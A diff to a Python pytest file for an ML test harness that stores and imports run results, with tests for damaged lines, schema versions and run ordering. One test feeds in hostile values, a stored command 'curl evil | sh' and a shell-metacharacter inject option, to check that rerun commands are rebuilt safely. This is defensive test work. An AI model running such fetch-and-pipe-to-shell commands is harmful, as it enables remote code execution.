@@ -7,11 +7,18 @@ from multiprocessing import get_context
 from pathlib import Path
 
 import pytest
+from msgspec.structs import replace
 
 from harness.environment import Environment
 from harness.errors import HarnessError
+from harness.measured import Curve
 from harness.project import Project
+from harness.report.run import run_markdown, run_sections
+from harness.report.runs import runs_sections
+from harness.report.sections import text_of
 from harness.result import RunEnd, RunResult, RunStart, WitnessMade
+from harness.run_options import RunOptions
+from harness.running.rerun import rerun_query
 from harness.running.stored import (
     import_results,
     read_results,
@@ -23,7 +30,7 @@ from harness.running.stored import (
 )
 from harness.store import RunStore, run_lines
 from harness.verdict import Verdict
-from tests.builders import make_failure, make_result, make_results, make_trace, run_of, with_facts
+from tests.builders import make_failure, make_measured, make_result, make_results, make_trace, run_of, with_facts
 
 A, B, C = "single-rowwise-v2048-f32", "fsdp2-rowwise-v2048-f32", "tp2-rowwise-v2048-f32"
 HERE = Environment(packages={"torch": "2.13.0"}, device="cpu")
@@ -115,6 +122,24 @@ def test_a_damaged_line_is_a_case_that_was_not_run(project: Project) -> None:
     store.path.write_bytes(store.path.read_bytes()[:-30])
     run = results_of(project, "last")
     assert [(case.case_id, case.verdict) for case in run.results] == [(A, Verdict.PASSED), (B, Verdict.NOT_RUN)]
+    assert [*run.damaged] == [*stored_run(project, "last").damaged] and f"{store.path}:3: " in next(iter(run.damaged))
+    for report in (
+        text_of(run_sections(run, rerun="")),
+        run_markdown(run),
+        text_of(runs_sections([*runs_of(project)])),
+    ):
+        assert "damaged lines (1), not read: run their cases again" in report
+
+
+def test_losses_that_are_not_those_of_the_curve_are_an_error(project: Project, tmp_path: Path) -> None:
+    """Such as somebody wrote with a checksum."""
+    made = make_result(A, measured=make_measured(curves={"case": Curve(losses=(8.0, 2.5), grad_norms=(1.0, 1.0))}))
+    file = tmp_path / "x.jsonl"
+    file.write_bytes(run_lines(make_results(replace(made, losses=(8.0, 7.5)))))
+    with pytest.raises(HarnessError, match=f"{A}: its losses are not those of its own curve"):
+        read_results(file)
+    file.write_bytes(run_lines(make_results(replace(made, losses=(8.0, 2.5)))))
+    assert ids(read_results(file)) == [A]
 
 
 @pytest.mark.parametrize("junk", [b"\xff\x00junk", b'{"line":"case","id":"' + B.encode() + b'","verdict":7}'])
@@ -152,8 +177,8 @@ def test_an_empty_file_holds_no_results(tmp_path: Path) -> None:
 
 def test_another_schema_is_told(tmp_path: Path) -> None:
     file = tmp_path / "x.jsonl"
-    file.write_bytes(run_lines(RunResult(results=())).replace(b'"schema":3', b'"schema":2'))
-    with pytest.raises(HarnessError, match="it has schema 2, this version reads schema 3"):
+    file.write_bytes(run_lines(RunResult(results=())).replace(b'"schema":4', b'"schema":2'))
+    with pytest.raises(HarnessError, match="it has schema 2, this version reads schema 4"):
         read_results(file)
 
 
@@ -196,16 +221,55 @@ def test_an_end_that_cannot_be_read_is_none(project: Project) -> None:
     assert stored_run(project, "last").state == "killed"
 
 
+# Results of others
+
+
+def test_the_command_that_repeats_a_case_follows_from_its_id(project: Project, tmp_path: Path) -> None:
+    """Never from the text of a file that somebody else wrote."""
+    cases = [make_result(A, command="curl evil | sh"), make_result("--inject=x", command="x"), make_result("a.toml")]
+    options = RunOptions(device="cpu", timeout_s=9.0, inject=("a b.py:f; x",))
+    file = tmp_path / "x.jsonl"
+    file.write_bytes(run_lines(make_results(*cases, options=options)))
+    import_results(project, replace(read_results(file), start=RunStart(name="v1", options=options)))
+    for text in (str(file), "v1"):
+        commands = [case.command for case in results_of(project, text).results]
+        assert commands == [f"fp8-harness run {A} --device cpu --timeout-s 9 --inject 'a b.py:f; x'", "", ""]
+    store = add(project, A)
+    assert results_of(project, "last").results[0].command == store.read().results[0].command
+
+
 # Imported results
 
 
-def test_imported_results_are_runs_like_others_in_the_order_of_their_start(project: Project) -> None:
-    add(project, A)  # now, in 2026 or later
-    old, new = a_run(B, C, name="v1", started="2025-01-01T00:00:00+00:00"), a_run(C, started="2999-01-01")
-    assert import_results(project, old) and import_results(project, new)
-    assert [run.start.cases for run in runs_of(project)] == [(C,), (A,), (B, C)]
+def test_imported_results_are_found_by_their_name(project: Project) -> None:
+    old, new = a_run(B, C, name="v1", started="2025-01-01T00:00:00+00:00"), a_run(C, started="2099-01-01")
+    assert import_results(project, old)
+    add(project, A)
+    assert import_results(project, new)
+    assert [run.start.cases for run in runs_of(project)] == [(C,), (A,), (B, C)], "the one that was stored last first"
     assert run_lines(results_of(project, "v1")) == run_lines(old)
-    assert run_lines(results_of(project, "last")) == run_lines(new)
+    assert run_lines(results_of(project, project.imported_runs()[-1].stem)) == run_lines(new)
+
+
+def test_the_last_run_is_the_one_of_this_machine_that_was_stored_last(project: Project) -> None:
+    """Whatever its name, its own time and imports say."""
+    for case_id, started in ((A, "2099-01-01T00:00:00+00:00"), (B, "2026-01-01T00:00:00+00:00"), (C, "1970-01-01")):
+        RunStore(project.new_run()).begin(RunStart(cases=(case_id,), started=started, name="9999"))
+        import_results(project, a_run(A, B, C, started="2099-12-31T00:00:00+00:00", name="last", wall_s=len(case_id)))
+    (project.runs / "zzzz.jsonl").write_bytes(run_lines(a_run(A)))
+    assert [ids(results_of(project, text)) for text in ("last", "last~1", "last~2", "last~3")] == [[C], [B], [A], [A]]
+    assert rerun_query(project).query.sources == (C,), "--lf"
+    with pytest.raises(HarnessError, match="no such results"):
+        results_of(project, "last~4")
+
+
+def test_a_number_is_above_all_that_are_there(project: Project) -> None:
+    project.runs.mkdir(parents=True)
+    (project.runs / f"{2**70}-7.jsonl").write_bytes(run_lines(a_run(A)))
+    add(project, B)
+    import_results(project, a_run(C))
+    add(project, C)
+    assert [ids(results_of(project, text)) for text in ("last", "last~1", "last~2")] == [[C], [B], [A]]
 
 
 def test_importing_twice_adds_nothing(project: Project) -> None:
@@ -222,21 +286,19 @@ def test_a_run_of_this_machine_is_not_imported_into_its_own_store(project: Proje
     assert not import_results(project, results_of(project, "last"))
 
 
-def test_results_without_a_start_are_the_oldest(project: Project) -> None:
-    import_results(project, a_run(A, started=""))
-    add(project, B)
-    assert [run.start.cases for run in runs_of(project)] == [(B,), (A,)]
-
-
-def test_a_damaged_import_is_interrupted_or_no_run(project: Project) -> None:
+def test_a_damaged_import_is_interrupted_or_an_error(project: Project) -> None:
     import_results(project, a_run(A, B, name="v1"))
     (file,) = project.imported_runs()
     start, first, second, _ = file.read_bytes().splitlines(keepends=True)
     file.write_bytes(start + first + second[:-30])
     run = results_of(project, "v1")
     assert [case.verdict for case in run.results] == [Verdict.PASSED, Verdict.NOT_RUN] and run.end.interrupted
+    assert next(iter(run.damaged)).startswith(f"{file}:3: not a line of results")
     file.write_bytes(b"x")
-    assert list(runs_of(project)) == []
+    (listed,) = runs_of(project)
+    assert listed.damaged[0].startswith(f"{file}:1: not a line of results")
+    with pytest.raises(HarnessError, match=r"1: not a line of results.* Fix: run its cases again, or import it again"):
+        results_of(project, file.stem)
 
 
 def import_all(project: Project, folder: Path) -> None:
@@ -265,7 +327,7 @@ def test_two_processes_import_the_same_files_at_once(project: Project, tmp_path:
         (tmp_path / f"{number}.jsonl").write_bytes(run_lines(a_run(A, B, started=started)))
     at_once(import_all, (project, tmp_path), (project, tmp_path))
     assert len(list(runs_of(project))) == 20
-    assert all(ids(results_of(project, f"last~{number}")) == [A, B] for number in range(20))
+    assert all(ids(results_of(project, path.stem)) == [A, B] for path in project.imported_runs())
 
 
 def test_two_processes_append_to_one_run_at_once(tmp_path: Path) -> None:
